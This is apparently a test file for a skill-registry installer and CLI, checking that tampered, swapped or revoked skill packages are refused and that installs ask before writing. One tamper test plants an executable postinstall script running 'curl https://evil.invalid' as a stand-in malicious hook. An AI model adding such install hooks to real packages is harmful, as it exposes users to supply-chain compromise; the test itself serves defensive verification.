import { spawnSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { cp, mkdir, mkdtemp, readFile, readdir, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { writeArchive, sha256Hex } from '../../core/index.ts';
import { LOCKFILE_NAME, RegistryClient, RegistryError, InstallError, installSkill, parseSkillSpec, searchSkills, skillInfo, skillsDirectory, type InstallPreview, type VerifyOptions } from '../../client/index.ts';
import { generateRegistryKeyPem, keySigner, registryKeyFromPem } from '../../signing/index.ts';
import { buildSite, digestOf, weatherSkill, type PublishedSkill, type SkillFixture } from './site-factory.ts';
import { freshDirs } from '../factories/process.ts';

const root = resolve(import.meta.dirname, '..', '..');
const signer = keySigner(registryKeyFromPem(generateRegistryKeyPem()));
const revoked: SkillFixture = { publisher: 'mallory', name: 'helpful-notes', version: '0.1.0', description: 'Takes notes for you.', files: { 'SKILL.md': '---\nname: helpful-notes\n---\nNotes.\n' } };
const otherWeather: SkillFixture = { ...weatherSkill('3.0.0'), publisher: 'globex', description: 'Weather from another publisher.' };

let work: string;
let site: string;
let published: PublishedSkill[];

const freshDir = freshDirs(() => work);

const options = (registry = site): VerifyOptions => ({ registry: new RegistryClient(registry) });

beforeAll(async () => {
  work = await mkdtemp(join(tmpdir(), 'skill-registry-install-'));
  site = join(work, 'site');
  published = await buildSite(site, {
    signer,
    skills: [weatherSkill('1.0.0'), weatherSkill('1.1.0'), { publisher: 'bob', name: 'pdf-tools', version: '0.2.0', description: 'Fill and merge PDF forms.', files: { 'SKILL.md': '---\nname: pdf-tools\n---\nPDFs.\n' } }, revoked],
    revocations: [{ digest: digestOf(revoked), reason: 'Steals tokens.', date: '2026-11-21T00:00:00.000Z' }],
  });
});

afterAll(async () => {
  await rm(work, { recursive: true, force: true });
});

/** Every entry left in a folder (to catch temporary folders left behind). */
async function entries(dir: string): Promise<string[]> {
  return (await readdir(dir).catch(() => [])).sort();
}

describe('install', () => {
  it('writes exactly the audited files with their modes, and nothing else', async () => {
    const directory = await freshDir('skills');
    const result = await installSkill('acme/weather-lite', { ...options(), directory });
    expect(result).toMatchObject({ installed: true, replaced: false, path: join(directory, 'weather-lite') });
    expect(result.verification.steps.map((step) => step.step)).toEqual(['archive', 'files', 'record', 'attestation', 'revocation']);
    expect(await entries(directory)).toEqual([LOCKFILE_NAME, 'weather-lite']);
    expect((await stat(join(directory, 'weather-lite', 'scripts', 'run.py'))).mode & 0o777).toBe(0o755);
    expect((await stat(join(directory, 'weather-lite', 'SKILL.md'))).mode & 0o777).toBe(0o644);
    expect(await readFile(join(directory, 'weather-lite', 'SKILL.md'), 'utf8')).toContain('version 1.1.0');
  });

  it('installs a named version, then replaces it with the latest in one move', async () => {
    const directory = await freshDir('skills');
    expect((await installSkill('weather-lite@1.0.0', { ...options(), directory })).skill?.version).toBe('1.0.0');
    const upgrade = await installSkill('weather-lite', { ...options(), directory });
    expect(upgrade).toMatchObject({ installed: true, replaced: true });
    expect(await readFile(join(directory, 'weather-lite', 'SKILL.md'), 'utf8')).toContain('version 1.1.0');
    expect(await entries(directory)).toEqual([LOCKFILE_NAME, 'weather-lite']);
  });

  describe('when the digest is revoked', () => {
    it('refuses with REVOKED and writes nothing', async () => {
      const directory = await freshDir('skills');
      const result = await installSkill('mallory/helpful-notes', { ...options(), directory });
      expect(result.installed).toBe(false);
      expect(result.verification.error?.code).toBe('REVOKED');
      expect(result.verification.error?.message).toContain('Steals tokens.');
      expect(await entries(directory)).toEqual([]);
    });
  });

  describe('when the archive was swapped', () => {
    it('refuses with ARCHIVE_MISMATCH when its hash is not the recorded one', async () => {
      const copy = await freshDir('site');
      await cp(site, copy, { recursive: true });
      const latest = published[1];
      const archive = await readFile(join(copy, latest.record.archive.path));
      archive[archive.length - 5] ^= 0xff;
      await writeFile(join(copy, latest.record.archive.path), archive);
      const directory = await freshDir('skills');
      const result = await installSkill('acme/weather-lite', { ...options(copy), directory });
      expect(result.installed).toBe(false);
      expect(result.verification.error?.code).toBe('ARCHIVE_MISMATCH');
      expect(await entries(directory)).toEqual([]);
    });

    it('refuses with TAMPERED when the record was edited to match other files', async () => {
      const copy = await freshDir('site');
      await cp(site, copy, { recursive: true });
      const latest = published[1];
      const evil = writeArchive([...latest.archiveFiles, { path: 'scripts/postinstall.sh', executable: true, content: new TextEncoder().encode('curl https://evil.invalid\n') }]);
      await writeFile(join(copy, latest.record.archive.path), evil);
      const recordPath = join(copy, 'api', 'digests', `${latest.hex}.json`);
      const record = JSON.parse(await readFile(recordPath, 'utf8'));
      record.archive = { ...record.archive, sha256: sha256Hex(evil), size: evil.length };
      await writeFile(recordPath, JSON.stringify(record));
      const directory = await freshDir('skills');
      const result = await installSkill('acme/weather-lite', { ...options(copy), directory });
      expect(result.installed).toBe(false);
      expect(result.verification.error?.code).toBe('TAMPERED');
      expect(result.verification.error?.message).toContain('scripts/postinstall.sh was added');
      expect(await entries(directory)).toEqual([]);
    });
  });

  describe('when the destination holds something else', () => {
    it('refuses with DESTINATION_TAKEN, and replaces it with --force', async () => {
      const directory = await freshDir('skills');
      await mkdir(join(directory, 'weather-lite'));
      await writeFile(join(directory, 'weather-lite', 'my-notes.txt'), 'mine');
      await expect(installSkill('acme/weather-lite', { ...options(), directory })).rejects.toBeInstanceOf(InstallError);
      await expect(installSkill('acme/weather-lite', { ...options(), directory })).rejects.toMatchObject({ code: 'DESTINATION_TAKEN' });
      expect(await readFile(join(directory, 'weather-lite', 'my-notes.txt'), 'utf8')).toBe('mine');
      expect(await entries(directory)).toEqual(['weather-lite']);
      const forced = await installSkill('acme/weather-lite', { ...options(), directory, force: true });
      expect(forced).toMatchObject({ installed: true, replaced: true });
      expect(await entries(join(directory, 'weather-lite'))).toEqual(['SKILL.md', 'references', 'scripts']);
    });
  });

  describe('when the user added or edited files in an earlier install', () => {
    it('refuses to replace it with DESTINATION_MODIFIED, naming what would be lost, and replaces it only with --force', async () => {
      const directory = await freshDir('skills');
      expect((await installSkill('weather-lite@1.0.0', { ...options(), directory })).installed).toBe(true);
      const installed = join(directory, 'weather-lite');
      await writeFile(join(installed, 'my-notes.txt'), 'mine');
      await writeFile(join(installed, 'references', 'api.md'), '# API\nMy own endpoint notes.\n');
      const refused = installSkill('weather-lite', { ...options(), directory });
      await expect(refused).rejects.toMatchObject({ code: 'DESTINATION_MODIFIED' });
      const message = ((await refused.catch((error: Error) => error)) as Error).message;
      expect(message).toContain('my-notes.txt was added');
      expect(message).toContain('references/api.md changed');
      expect(message).toContain('--force');
      expect(await readFile(join(installed, 'my-notes.txt'), 'utf8')).toBe('mine');
      expect(await readFile(join(installed, 'SKILL.md'), 'utf8')).toContain('version 1.0.0');
      expect(await entries(directory)).toEqual([LOCKFILE_NAME, 'weather-lite']);
      const forced = await installSkill('weather-lite', { ...options(), directory, force: true });
      expect(forced).toMatchObject({ installed: true, replaced: true });
      expect(await entries(installed)).toEqual(['SKILL.md', 'references', 'scripts']);
    });

    it('replaces an install the user only deleted files from (nothing would be lost)', async () => {
      const directory = await freshDir('skills');
      await installSkill('weather-lite@1.0.0', { ...options(), directory });
      await rm(join(directory, 'weather-lite', 'references'), { recursive: true });
      expect(await installSkill('weather-lite', { ...options(), directory })).toMatchObject({ installed: true, replaced: true });
    });
  });

  describe('when --dir is a file', () => {
    it('refuses with WRITE_FAILED saying so, and the CLI prints no stack trace', async () => {
      const file = join(await freshDir('not-a-dir'), 'skills.txt');
      await writeFile(file, 'a file');
      await expect(installSkill('acme/weather-lite', { ...options(), directory: file })).rejects.toMatchObject({ code: 'WRITE_FAILED', message: expect.stringContaining('is a file') });
      const cli = spawnSync(process.execPath, [join(root, 'bin', 'skill-registry.js'), 'install', 'acme/weather-lite', '--registry', site, '--dir', file, '--yes'], { encoding: 'utf8' });
      expect(cli.status).not.toBe(0);
      expect(cli.stderr + cli.stdout).toContain('is a file');
      expect(cli.stderr + cli.stdout).not.toMatch(/\n\s+at /);
    });
  });

  describe('when the name is unknown, ambiguous or has no such version', () => {
    it('says so with NO_SUCH_SKILL or AMBIGUOUS_SKILL', async () => {
      const directory = await freshDir('skills');
      await expect(installSkill('weather-heavy', { ...options(), directory })).rejects.toMatchObject({ code: 'NO_SUCH_SKILL' });
      await expect(installSkill('acme/weather-lite@9.9.9', { ...options(), directory })).rejects.toMatchObject({ code: 'NO_SUCH_SKILL', message: expect.stringContaining('1.1.0, 1.0.0') });
      await expect(installSkill('../etc', { ...options(), directory })).rejects.toBeInstanceOf(RegistryError);
      const copy = await freshDir('site');
      await buildSite(copy, { signer, skills: [weatherSkill('1.1.0'), otherWeather] });
      await expect(installSkill('weather-lite', { ...options(copy), directory })).rejects.toMatchObject({ code: 'AMBIGUOUS_SKILL' });
      expect((await installSkill('globex/weather-lite', { ...options(copy), directory })).installed).toBe(true);
    });
  });
});

describe('skillsDirectory', () => {
  it("uses .claude/skills of the nearest folder with .git or package.json, --global's home, or --dir", async () => {
    const project = await freshDir('project');
    await writeFile(join(project, 'package.json'), '{}');
    await mkdir(join(project, 'src', 'deep'), { recursive: true });
    expect(skillsDirectory({ cwd: join(project, 'src', 'deep') })).toBe(join(project, '.claude', 'skills'));
    expect(skillsDirectory({ global: true, home: '/home/someone' })).toBe('/home/someone/.claude/skills');
    expect(skillsDirectory({ dir: 'x', cwd: project })).toBe(join(project, 'x'));
  });
});

describe('parseSkillSpec', () => {
  it('reads publisher/name@version, name@version and name; refuses anything else', () => {
    expect(parseSkillSpec('acme/weather-lite@1.2.0')).toEqual({ publisher: 'acme', name: 'weather-lite', version: '1.2.0' });
    expect(parseSkillSpec('weather-lite')).toEqual({ publisher: undefined, name: 'weather-lite', version: undefined });
    for (const bad of ['', '../x', 'a/b/c', 'Acme/x', 'x@', '-x']) expect(parseSkillSpec(bad)).toBeUndefined();
  });
});

describe('info and search', () => {
  it('info shows the latest record and every version', async () => {
    const info = await skillInfo(new RegistryClient(site), 'weather-lite');
    expect(info.entry).toMatchObject({ publisher: 'acme', version: '1.1.0' });
    expect(info.record?.files.map((file) => file.path)).toEqual(['SKILL.md', 'references/api.md', 'scripts/run.py']);
    expect(info.history?.versions.map((version) => version.version)).toEqual(['1.1.0', '1.0.0']);
    expect((await skillInfo(new RegistryClient(site), 'acme/weather-lite@1.0.0')).record?.version).toBe('1.0.0');
  });

  it('search needs every word, ranks name matches first and finds descriptions', async () => {
    const registry = new RegistryClient(site);
    expect((await searchSkills(registry, 'pdf')).hits.map((hit) => hit.entry.name)).toEqual(['pdf-tools']);
    expect((await searchSkills(registry, 'merge forms')).hits.map((hit) => hit.entry.name)).toEqual(['pdf-tools']);
    expect((await searchSkills(registry, 'weather pdf')).total).toBe(0);
    expect((await searchSkills(registry, 'WEATHER')).hits[0].entry.name).toBe('weather-lite');
  });
});

describe('the CLI', () => {
  const cli = (args: string[], cwd = root) => spawnSync(process.execPath, [join(root, 'bin', 'skill-registry.js'), ...args], { cwd, encoding: 'utf8', env: { ...process.env, SKILL_REGISTRY_URL: '', SKILL_REGISTRY_TRUST: '' } });

  it('installs into the project, then verifies by path and by digest with exit 0', async () => {
    const project = await freshDir('project');
    await mkdir(join(project, '.git'));
    const install = cli(['install', 'acme/weather-lite', '--registry', site, '--yes'], project);
    expect(install.status).toBe(0);
    expect(install.stdout).toContain(`Installed acme/weather-lite@1.1.0 into ${join(project, '.claude', 'skills', 'weather-lite')}`);
    const byPath = cli(['verify', '.claude/skills/weather-lite', '--registry', site], project);
    expect(byPath.status).toBe(0);
    expect(byPath.stdout).toMatch(/✓ files +The files in \.claude\/skills\/weather-lite match sha256:/);
    expect(byPath.stdout).toMatch(/✓ revocation +Not revoked/);
    const byDigest = cli(['verify', published[1].digest, '--registry', site, '--json']);
    expect(byDigest.status).toBe(0);
    expect(JSON.parse(byDigest.stdout)).toMatchObject({ verified: true, digest: published[1].digest, registry: site });
  });

  it('exits 1 with plain words when verification fails', async () => {
    const dir = join(await freshDir('tampered'), 'weather-lite');
    expect(cli(['install', 'weather-lite', '--registry', site, '--dir', join(dir, '..'), '--yes']).status).toBe(0);
    await writeFile(join(dir, 'scripts', 'run.py'), 'import os\n');
    const result = cli(['verify', dir, '--registry', site]);
    expect(result.status).toBe(1);
    expect(result.stdout).toContain('are not the ones that were audited: scripts/run.py changed');
    expect(result.stdout).toMatch(/^NOT VERIFIED \(TAMPERED\)/m);
    const revokedRun = cli(['install', 'helpful-notes', '--registry', site, '--dir', join(dir, '..'), '--yes']);
    expect(revokedRun.status).toBe(1);
    expect(revokedRun.stdout).toContain('Steals tokens.');
  });

  it('exits 2 on usage errors', () => {
    expect(cli(['verify', 'not-a-digest-or-folder', '--registry', site]).status).toBe(2);
    expect(cli(['verify', '--registry', site]).status).toBe(2);
    expect(cli(['verify', published[1].digest, '--registry', site, '--max-age', 'soon']).status).toBe(2);
    expect(cli(['install', 'weather-lite', '--dir', 'x', '--global', '--registry', site]).status).toBe(2);
  });

  it('pins the signer with --trust', async () => {
    const trustFile = join(await freshDir('trust'), 'trust.json');
    await writeFile(trustFile, JSON.stringify(keySigner(registryKeyFromPem(generateRegistryKeyPem())).trust));
    const result = cli(['verify', published[1].digest, '--registry', site, '--trust', trustFile]);
    expect(result.status).toBe(1);
    expect(result.stdout).toMatch(/^NOT VERIFIED \(WRONG_SIGNER\)/m);
  });

  it('prints info and search results', () => {
    const info = cli(['info', 'weather-lite', '--registry', site]);
    expect(info.status).toBe(0);
    expect(info.stdout).toMatch(/^acme\/weather-lite 1\.1\.0 {2}\[Verified\]/);
    expect(info.stdout).toContain('versions    1.1.0, 1.0.0');
    const search = cli(['search', 'pdf', '--registry', site, '--json']);
    expect(JSON.parse(search.stdout)).toMatchObject({ total: 1, skills: [{ publisher: 'bob', name: 'pdf-tools' }] });
  });

  it('prints install and verify commands that work when pasted, registry included', async () => {
    const project = await freshDir('project');
    await mkdir(join(project, '.git'));
    const info = cli(['info', 'acme/weather-lite', '--registry', site]);
    const shown = (label: string) => info.stdout.match(new RegExp(`^${label}:\\s+npx skill-registry (.+)$`, 'm'))?.[1].split(' ') ?? [];
    expect(shown('Install')).toEqual(['install', 'acme/weather-lite', '--registry', site]);
    // Pasted into a terminal it asks before writing; here nobody can answer, so the test says yes up front.
    expect(cli([...shown('Install'), '--yes'], project).status).toBe(0);
    const verify = cli(shown('Verify'), project);
    expect(verify.status).toBe(0);
    expect(verify.stdout).toContain('weather-lite');
  });
});

describe('install, when the archive holds the same path twice', () => {
  it('refuses with ARCHIVE_MISMATCH and writes nothing', async () => {
    const copy = await freshDir('site');
    await cp(site, copy, { recursive: true });
    const latest = published[1];
    const doubled = writeArchive([...latest.archiveFiles, { path: 'SKILL.md', executable: false, content: new TextEncoder().encode('---\nname: weather-lite\n---\nOther text.\n') }]);
    await writeFile(join(copy, latest.record.archive.path), doubled);
    const recordPath = join(copy, 'api', 'digests', `${latest.hex}.json`);
    const record = JSON.parse(await readFile(recordPath, 'utf8'));
    record.archive = { ...record.archive, sha256: sha256Hex(doubled), size: doubled.length };
    await writeFile(recordPath, JSON.stringify(record));
    const directory = await freshDir('skills');
    const result = await installSkill('acme/weather-lite', { ...options(copy), directory });
    expect(result.installed).toBe(false);
    expect(result.verification.error?.code).toBe('ARCHIVE_MISMATCH');
    expect(await entries(directory)).toEqual([]);
  });
});

describe('install, before writing', () => {
  it('shows what the verified skill can do and asks; when the answer is no, nothing is written', async () => {
    const directory = await freshDir('skills');
    const asked: InstallPreview[] = [];
    const result = await installSkill('acme/weather-lite', {
      ...options(),
      directory,
      confirm: async (preview) => {
        asked.push(preview);
        // Asked once the files verified, before anything is in the skills folder.
        expect((await entries(directory)).filter((name) => !name.startsWith('.'))).toEqual([]);
        return false;
      },
    });
    expect(result).toMatchObject({ installed: false, declined: true });
    expect(result.verification.verified).toBe(true);
    expect(result.verification.summary).toMatch(/^NOT INSTALLED: acme\/weather-lite@1\.1\.0 verified, but the install was not confirmed/);
    expect(asked).toEqual([
      {
        skill: { publisher: 'acme', name: 'weather-lite', version: '1.1.0', digest: published[1].digest },
        destination: join(directory, 'weather-lite'),
        replaces: false,
        capabilities: { network: [], env: [], filesystem: { read: [], write: [] }, commands: ['python3'] },
        verdict: 'pass',
        trust: 'verified',
        warnings: [],
      },
    ]);
    expect(await entries(directory)).toEqual([]);
  });

  it("shows the capabilities the attestation signed, not what the registry's record claims", async () => {
    const copy = await freshDir('site');
    await cp(site, copy, { recursive: true });
    const recordPath = join(copy, 'api', 'digests', `${published[1].hex}.json`);
    const record = JSON.parse(await readFile(recordPath, 'utf8'));
    record.capabilities.declared.commands = [];
    await writeFile(recordPath, JSON.stringify(record));
    let shown: InstallPreview | undefined;
    await installSkill('acme/weather-lite', { ...options(copy), directory: await freshDir('skills'), confirm: async (preview) => ((shown = preview), false) });
    expect(shown?.capabilities.commands).toEqual(['python3']);
  });

  it("lists the audit's warnings of a skill that passed with warnings", async () => {
    const copy = await freshDir('site');
    const warned: SkillFixture = { ...weatherSkill('2.0.0'), verdict: 'warn', capabilities: { network: ['*'] }, reasons: ['Declares network access to any host (`network: ["*"]`).'] };
    await buildSite(copy, { signer, skills: [warned] });
    let shown: InstallPreview | undefined;
    await installSkill('acme/weather-lite', { ...options(copy), directory: await freshDir('skills'), confirm: async (preview) => ((shown = preview), false) });
    expect(shown).toMatchObject({ verdict: 'warn', trust: 'warnings', warnings: ['Declares network access to any host (`network: ["*"]`).'], capabilities: { network: ['*'] } });
  });

  describe('the CLI', () => {
    const bin = join(root, 'bin', 'skill-registry.js');
    const env = { ...process.env, SKILL_REGISTRY_URL: '', SKILL_REGISTRY_TRUST: '' };

    it('without a terminal and without --yes, shows what the skill can do, writes nothing and exits 2 saying to pass --yes', async () => {
      const directory = await freshDir('skills');
      const result = spawnSync(process.execPath, [bin, 'install', 'acme/weather-lite', '--registry', site, '--dir', directory], { encoding: 'utf8', env });
      expect(result.status, result.stderr).toBe(2);
      expect(result.stdout).toContain('What acme/weather-lite@1.1.0 can do, as its signed audit declares:');
      expect(result.stdout).toMatch(/^ {2}network +none$/m);
      expect(result.stdout).toMatch(/^ {2}commands +python3$/m);
      expect(result.stdout).toContain('Audit: pass (Verified), no warnings.');
      expect(result.stdout).toMatch(/^NOT INSTALLED: .*standard input is not a terminal.*again with --yes/m);
      expect(await entries(directory)).toEqual([]);
      const json = spawnSync(process.execPath, [bin, 'install', 'acme/weather-lite', '--registry', site, '--dir', directory, '--json'], { encoding: 'utf8', env });
      expect(json.status).toBe(2);
      expect(JSON.parse(json.stdout)).toMatchObject({ installed: false, declined: true, refusal: { code: 'NEEDS_YES' }, preview: { capabilities: { commands: ['python3'] } } });
    });

    // script(1) (util-linux, in every Debian install) gives the CLI a real terminal to ask on.
    const script = ['/usr/bin/script', '/bin/script'].find((path) => existsSync(path));
    it.skipIf(script === undefined)('on a terminal, asks after showing what the skill can do: y installs, anything else does not', async () => {
      const directory = await freshDir('skills');
      const onTerminal = (answer: string) =>
        spawnSync(script!, ['-q', '-e', '-c', [process.execPath, bin, 'install', 'acme/weather-lite', '--registry', site, '--dir', directory].join(' '), '/dev/null'], { encoding: 'utf8', env, input: answer });
      const no = onTerminal('n\n');
      expect(no.status, no.stdout).toBe(1);
      expect(no.stdout).toContain('commands    python3');
      expect(no.stdout).toContain(`Install acme/weather-lite@1.1.0 into ${join(directory, 'weather-lite')}? [y/N]`);
      expect(no.stdout).toContain('NOT INSTALLED: you did not confirm the install of acme/weather-lite@1.1.0. Nothing was changed.');
      expect(await entries(directory)).toEqual([]);
      const yes = onTerminal('y\n');
      expect(yes.status, yes.stdout).toBe(0);
      expect(yes.stdout).toContain(`Installed acme/weather-lite@1.1.0 into ${join(directory, 'weather-lite')}`);
      expect(await entries(directory)).toEqual([LOCKFILE_NAME, 'weather-lite']);
    });
  });
});
